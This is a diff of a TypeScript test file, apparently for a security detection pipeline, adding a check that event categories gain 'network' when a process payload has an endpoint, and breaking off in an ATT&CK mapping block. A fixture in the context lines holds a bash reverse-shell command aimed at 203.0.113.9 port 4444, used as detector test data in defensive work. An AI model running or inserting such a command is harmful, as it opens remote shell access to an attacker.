@@ -132,6 +132,18 @@ describe('what was stopped', () => {
   });
 });
 
+test.each<[string, string[]]>([
+  ['Suspicious-Process-Call', ['intrusion_detection', 'process']],
+  ['Reverse-Shell', ['intrusion_detection', 'network', 'process']],
+  ['Secret-In-Build-Log', ['intrusion_detection']],
+])('%s with a far end is of the network, too, where a process connects', (kind, category) => {
+  expect(readShipped(payloadOf(kind)).event.category).toEqual(category);
+  const connected = readShipped(payloadOf(kind, { endpoint: 'a.example:443' })).event.category;
+  expect(connected.toSorted()).toEqual(
+    [...new Set([...category, ...(category.includes('process') ? ['network'] : [])])].sort(),
+  );
+});
+
 describe('ATT&CK by payload', () => {
   const shell = { exe: '/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] };
   test.each<[string, JsonObject, string[]]>([
